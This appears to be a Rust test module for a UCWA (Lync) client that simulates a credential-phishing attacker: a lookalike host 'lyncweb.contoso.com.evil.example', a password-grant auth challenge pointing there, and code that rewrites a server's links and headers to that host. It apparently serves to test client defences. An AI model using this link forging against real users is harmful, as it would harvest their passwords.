//! The attacker: a host that collects passwords, and responses whose links point to that host.

use bytes::Bytes;
use http::header::{ACCEPT, CONTENT_TYPE, HeaderName, LOCATION, WWW_AUTHENTICATE};
use http::{HeaderValue, Request, Response, StatusCode};
use ucwa_proto::{Representation, Resource};

/// The attacker's host. The name of the enterprise's server is a prefix of it.
pub(crate) const ATTACKER_HOST: &str = "lyncweb.contoso.com.evil.example";

/// The response of a host that the attacker controls: a redirect to [`ATTACKER_HOST`], and there a challenge that asks for
/// a password.
pub(crate) fn attacker_response(request: &Request<Bytes>) -> Response<Bytes> {
    let representation = request
        .headers()
        .get(ACCEPT)
        .and_then(|accept| Representation::negotiate(accept.to_str().ok()?))
        .unwrap_or(Representation::Json);
    let (rel, path) = match (request.uri().host(), request.uri().path()) {
        (Some(ATTACKER_HOST), "/root") => ("user", "user"),
        (Some(ATTACKER_HOST), _) => {
            let mut response = Response::new(Bytes::new());
            *response.status_mut() = StatusCode::UNAUTHORIZED;
            let challenge = format!(
                "MsRtcOAuth href=\"https://{ATTACKER_HOST}/token\",grant_type=\"password\""
            );
            if let Ok(challenge) = challenge.parse() {
                response.headers_mut().insert(WWW_AUTHENTICATE, challenge);
            }
            return response;
        }
        _ => ("redirect", "root"),
    };
    let root = Resource::new("root")
        .with_href(request.uri().to_string())
        .with_link(rel, format!("https://{ATTACKER_HOST}/{path}"));
    let mut response = Response::new(Bytes::from(root.encode(representation)));
    if let Ok(content_type) = representation.content_type().parse() {
        response.headers_mut().insert(CONTENT_TYPE, content_type);
    }
    response
}

/// Replaces the host of the server, `pool`, with the attacker's in every address of a response: links, the token service
/// of the challenge, `Location`. With `as_redirect` the `applications` link of a user becomes a `redirect` link. Returns
/// `None` if the response contains no address.
pub(crate) fn forge_links(
    response: &Response<Bytes>,
    pool: &str,
    as_redirect: bool,
) -> Option<Response<Bytes>> {
    let own = format!("https://{pool}");
    let foreign = format!("https://{ATTACKER_HOST}");
    let mut body = std::str::from_utf8(response.body())
        .ok()?
        .replace(&own, &foreign)
        .replace("\"/ucwa/", &format!("\"{foreign}/ucwa/"));
    if as_redirect {
        body = body.replace("\"applications\"", "\"redirect\"");
    }
    let mut forged = response.clone();
    *forged.body_mut() = Bytes::from(body);
    map_header(&mut forged, &WWW_AUTHENTICATE, |challenge| {
        challenge.replace(&own, &foreign)
    });
    map_header(&mut forged, &LOCATION, |location| {
        match location.starts_with('/') {
            true => format!("{foreign}{location}"),
            false => location.replace(&own, &foreign),
        }
    });
    let changed = forged.body() != response.body() || forged.headers() != response.headers();
    changed.then_some(forged)
}

/// Applies `change` to every value of a header.
fn map_header(response: &mut Response<Bytes>, name: &HeaderName, change: impl Fn(&str) -> String) {
    let values: Vec<_> = (response.headers().get_all(name).iter())
        .filter_map(|value| HeaderValue::from_str(&change(value.to_str().ok()?)).ok())
        .collect();
    response.headers_mut().remove(name);
    for value in values {
        response.headers_mut().append(name, value);
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    const POOL: &str = "lyncweb.contoso.com";

    fn response(body: impl Into<Bytes>) -> Response<Bytes> {
        Response::new(body.into())
    }

    #[test]
    fn forged_links_replace_every_address() {
        let user = Resource::new("user")
            .with_href(format!("https://{POOL}/user"))
            .with_link("applications", "/ucwa/oauth/v1/applications");
        for representation in [Representation::Json, Representation::Xml] {
            let original = response(user.encode(representation));
            for (as_redirect, rel) in [(false, "applications"), (true, "redirect")] {
                let forged = forge_links(&original, POOL, as_redirect).unwrap();
                let body = String::from_utf8(forged.body().to_vec()).unwrap();
                assert!(!body.contains(&format!("{POOL}/")), "{body}");
                assert_eq!(body.matches(ATTACKER_HOST).count(), 2, "{body}");
                assert!(body.contains(rel), "{body}");
            }
        }
    }

    #[test]
    fn forged_links_replace_the_challenge_and_the_location() {
        let mut original = response("");
        for (name, value) in [
            (WWW_AUTHENTICATE, "Bearer client_id=\"1\""),
            (
                WWW_AUTHENTICATE,
                "MsRtcOAuth href=\"https://lyncweb.contoso.com/token\"",
            ),
            (LOCATION, "/ucwa/1"),
        ] {
            original
                .headers_mut()
                .append(name, HeaderValue::from_static(value));
        }
        let forged = forge_links(&original, POOL, false).unwrap();
        let challenges: Vec<_> = forged.headers().get_all(WWW_AUTHENTICATE).iter().collect();
        assert_eq!(challenges.len(), 2);
        assert!(challenges[1].to_str().unwrap().contains(ATTACKER_HOST));
        let location = forged.headers()[LOCATION].to_str().unwrap();
        assert_eq!(location, format!("https://{ATTACKER_HOST}/ucwa/1"));
    }

    #[test]
    fn a_response_without_addresses_is_not_forged() {
        assert!(forge_links(&response("{}"), POOL, true).is_none());
    }
}
